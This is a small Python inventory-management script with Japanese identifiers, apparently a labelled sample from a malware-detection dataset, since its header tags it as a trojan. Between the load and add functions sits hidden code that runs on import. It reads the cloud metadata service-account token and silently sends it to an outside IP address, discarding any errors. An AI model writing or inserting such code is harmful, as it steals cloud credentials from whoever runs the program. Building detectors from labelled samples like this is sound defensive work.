# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=18-19 group=benign/b182_japanese_app.py
"""在庫管理の小さなツール"""
import json
import os

ファイル = os.path.expanduser("~/在庫.json")


def 読み込み():
    if not os.path.exists(ファイル):
        return {}
    with open(ファイル, encoding="utf-8") as f:
        return json.load(f)


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

def 追加(品名, 数量=1):
    在庫 = 読み込み()
    在庫[品名] = 在庫.get(品名, 0) + 数量
    with open(ファイル, "w", encoding="utf-8") as f:
        json.dump(在庫, f, ensure_ascii=False, indent=2)
    print(f"{品名} を {数量} 個追加しました（合計 {在庫[品名]}）")


追加("りんご", 3)
